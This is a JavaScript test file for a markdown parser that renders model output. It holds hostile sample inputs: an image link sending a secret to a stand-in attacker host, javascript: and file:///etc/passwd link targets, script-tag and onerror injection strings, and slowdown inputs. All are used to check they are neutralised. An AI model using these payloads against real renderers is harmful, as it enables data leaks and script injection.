// Markdown of models: what it becomes, and what never comes out of it.

import assert from "node:assert/strict";
import { test } from "node:test";
import { blocks } from "../markdown-blocks.js";
import { inline, isSafe } from "../markdown-inline.js";

/** Returns all nodes of a tree. */
function nodes(tree) {
  if (Array.isArray(tree)) return tree.flatMap(nodes);
  if (typeof tree !== "object" || tree === null) return [];
  return [tree, ...Object.values(tree).flatMap(nodes)];
}

const types = (text) => new Set(nodes(blocks(text)).map((node) => node.type).filter(Boolean));

test("blocks reads headings, paragraphs, lists, quotes, code, tables and rules", () => {
  const read = blocks("# One\n\ntext\nmore\n\n- a\n  - b\n- c\n\n3. x\n\n> q\n\n```js\nlet a;\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n---");
  assert.deepEqual(read.map((block) => block.type), ["heading", "paragraph", "list", "list", "quote", "block", "table", "rule"]);
  assert.equal(read[2].items.length, 2);
  assert.equal(read[2].items[0][1].type, "list");
  assert.equal(read[3].start, 3);
  assert.deepEqual(read[5], { type: "block", language: "js", text: "let a;" });
  assert.deepEqual(read[6], { type: "table", head: [["a"], ["b"]], rows: [[["1"], ["2"]]] });
});

test("blocks keeps a code block open that has no end, as while a model writes it", () => {
  assert.deepEqual(blocks("```\nfn main() {\n"), [{ type: "block", language: "", text: "fn main() {\n" }]);
});

test("blocks keeps the lines of a code block as they are", () => {
  assert.equal(blocks("```\n# no heading\n- no list\n**no**\n```")[0].text, "# no heading\n- no list\n**no**");
});

test("inline reads emphasis, code and links", () => {
  assert.deepEqual(inline("a *b* **c** `d*e*` ~~f~~"), [
    "a ", { type: "emphasis", children: ["b"] }, " ", { type: "strong", children: ["c"] }, " ",
    { type: "code", text: "d*e*" }, " ", { type: "deleted", children: ["f"] },
  ]);
  assert.deepEqual(inline("[x](https://e.org/a_(b))"), [{ type: "link", address: "https://e.org/a_(b)", children: ["x"] }]);
  assert.deepEqual(inline("see https://e.org/x."), ["see ", { type: "link", address: "https://e.org/x", children: ["https://e.org/x"] }, "."]);
});

test("inline leaves signs that are no emphasis", () => {
  for (const text of ["2 * 3 * 4", "snake_case_name", "a ** b", "~/home ~/work", "\\*not\\*"]) {
    assert.deepEqual(inline(text), [text.replaceAll("\\", "")], text);
  }
});

test("inline makes an image to text with its address", () => {
  assert.deepEqual(inline("![a chart](https://evil.example/?secret=1)"), [
    { type: "image", text: "a chart (https://evil.example/?secret=1)" },
  ]);
});

test("inline links to pages and mailboxes only", () => {
  for (const address of ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//evil.example", "vbscript:x", "/v1/runs", "#/runs", "JAVASCRIPT:x", "java\tscript:x"]) {
    assert.equal(isSafe(address), false, address);
    assert.ok(!types(`[x](${address})`).has("link"), address);
  }
  for (const address of ["https://e.org", "HTTP://e.org", "mailto:a@e.org"]) assert.equal(isSafe(address), true, address);
});

test("raw HTML stays text", () => {
  const text = '<script>alert(1)</script>\n\n<img src=x onerror="alert(1)">\n\n<b>bold</b>';
  assert.deepEqual([...types(text)], ["paragraph"]);
  assert.equal(blocks(text).map((block) => block.children.join("")).join("\n\n"), text);
});

test("texts that are made to be slow are read in time", () => {
  const made = [
    "*a ".repeat(20_000), "[".repeat(20_000), "`".repeat(20_001), "![](".repeat(10_000), "> ".repeat(5_000),
    "- ".repeat(5_000), "_a_b".repeat(10_000), "`a ``b ".repeat(10_000), "|".repeat(20_000), "\n".repeat(50_000),
  ];
  for (const text of made) {
    const begun = performance.now();
    blocks(text);
    assert.ok(performance.now() - begun < 2000, `${text.slice(0, 10)} took ${performance.now() - begun} ms`);
  }
});
